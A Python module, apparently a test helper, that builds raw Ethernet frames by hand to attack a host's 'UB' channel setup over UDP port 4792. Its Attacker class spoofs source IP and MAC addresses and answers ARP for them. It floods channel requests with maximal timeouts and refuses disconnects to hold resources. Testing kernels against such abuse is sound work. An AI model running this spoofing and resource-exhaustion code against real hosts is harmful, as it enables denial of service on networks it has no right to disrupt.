# SPDX-License-Identifier: BSD-3-Clause
"""A host that sets up channels of UB as it likes: frames by hand on an interface of the kernel."""
import random
import socket
import struct
import threading
import zlib

UB_PORT = 4792
# An unreliable packet, and a Send of an unknown Jetty to Jetty 0, without a token.
HEADERS = bytes.fromhex('80000000000000000000000000000000' '00100000080505000000000000000000')
LIMITS = bytes.fromhex('00000000' '0400040010000400' '02030000')  # first PSN, capabilities of a TP
TIMER = struct.pack('>IBBBB', 2097152, 1, 7, 16, 1)  # the longest timeouts that can be said
REQ, REP, RTU, REJ, DISC, DISC_REP, RETRY = range(1, 8)
ENTITY, TP, TIMER_TLV, COOKIE = range(1, 5)
IN_USE, CLOSING = 2, 7


def gid4(ip):
    return b'\0' * 10 + b'\xff\xff' + socket.inet_aton(ip)


def mac_bytes(mac):
    return bytes.fromhex(mac.replace(':', ''))


def tlv(kind, value):
    return struct.pack('>HH', kind, len(value)) + value + b'\0' * (-len(value) % 4)


def tlvs(message):
    at, found = 16, []
    while at + 4 <= len(message):
        kind, size = struct.unpack_from('>HH', message, at)
        found.append((kind, message[at + 4:at + 4 + size]))
        at += 4 + size + (-size % 4)
    return found


def build(kind, transaction, source, destination, rest=b'', status=0):
    body = tlv(ENTITY, gid4(source) + gid4(destination)) + rest
    return struct.pack('>BBHQHH', 1, kind, 16 + len(body), transaction, status, 0) + body


def checksum(header):
    total = sum(struct.unpack('!%dH' % (len(header) // 2), header))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def frame(source, destination, dmac, smac, payload):
    """Ethernet to ICRC, which leaves out fields that routers change."""
    udp = struct.pack('>HHHH', 50000, UB_PORT, 12 + len(payload), 0)
    ip = struct.pack('>BBHHHBBH', 0x45, 0, 32 + len(payload), 0, 0x4000, 64, 17, 0)
    ip += socket.inet_aton(source) + socket.inet_aton(destination)
    masked = bytearray(ip + udp + payload)
    for at in (1, 8, 10, 11, 26, 27):
        masked[at] = 255
    crc = struct.pack('<I', zlib.crc32(bytes(masked)))
    ip = ip[:10] + struct.pack('>H', checksum(ip)) + ip[12:]
    return dmac + smac + b'\x08\0' + ip + udp + payload + crc


class Attacker:
    """answers: ARP for these addresses; confirms: sends RTU; leaves: answers DISC, else with "in use"."""

    def __init__(self, interface, mac, victim, victim_mac):
        self.mac, self.victim, self.victim_mac = mac_bytes(mac), victim, mac_bytes(victim_mac)
        self.arp, self.receives, self.confirms = set(), True, False
        self.seen, self.waiting, self.number = {}, {}, 0
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((interface, 0))
        self.socket.settimeout(0.1)
        self.running = True
        self.thread = threading.Thread(target=self.read, daemon=True)
        self.thread.start()

    def close(self):
        self.running = False
        self.thread.join()
        self.socket.close()

    def send(self, source, message, smac=None):
        pad = -len(message) % 4
        headers = bytearray(HEADERS)
        headers[1] |= pad << 4
        self.socket.send(frame(source, self.victim, self.victim_mac, smac or self.mac,
                               bytes(headers) + message + b'\0' * pad))

    def request(self, source, smac=None):
        """A REQ for four channels."""
        self.number += 1
        transaction = random.getrandbits(64)
        tps = b''.join(tlv(TP, struct.pack('>I', (self.number * 4 + i) % 0xfffff0 + 1)[1:] + b'\0' + LIMITS)
                       for i in range(4))
        rest = tps + tlv(TIMER_TLV, TIMER)
        self.waiting[transaction] = rest
        self.send(source, build(REQ, transaction, source, self.victim, rest), smac)

    def read(self):
        while self.running:
            try:
                f = self.socket.recv(5000)
            except TimeoutError:
                continue
            if f[12:14] == b'\x08\x06' and f[20:22] == b'\0\1' and \
                    socket.inet_ntoa(f[38:42]) in self.arp:
                self.socket.send(f[6:12] + self.mac + f[12:20] + b'\0\2' + self.mac + f[38:42] + f[22:32])
            elif f[12:14] == b'\x08\0' and f[23] == 17 and f[0:6] == self.mac and \
                    f[36:38] == struct.pack('>H', UB_PORT):
                self.hear(socket.inet_ntoa(f[30:34]), f)

    def hear(self, own, f):
        size = struct.unpack_from('>H', f, 38)[0] - 8
        message = f[42 + len(HEADERS):42 + size - 4]
        if len(message) < 16:
            return
        kind, transaction = message[1], struct.unpack_from('>Q', message, 4)[0]
        self.seen[kind] = self.seen.get(kind, 0) + 1
        if not self.receives:
            return
        if kind == RETRY and transaction in self.waiting:
            cookie = b''.join(tlv(k, v) for k, v in tlvs(message) if k == COOKIE)
            self.send(own, build(REQ, transaction, own, self.victim, self.waiting[transaction] + cookie))
        elif kind == REP and self.confirms:
            tps = b''.join(tlv(k, v) for k, v in tlvs(message) if k == TP)
            self.send(own, build(RTU, transaction, own, self.victim, tps))
        elif kind == DISC and self.confirms:
            self.send(own, build(REJ, transaction, own, self.victim, status=IN_USE))
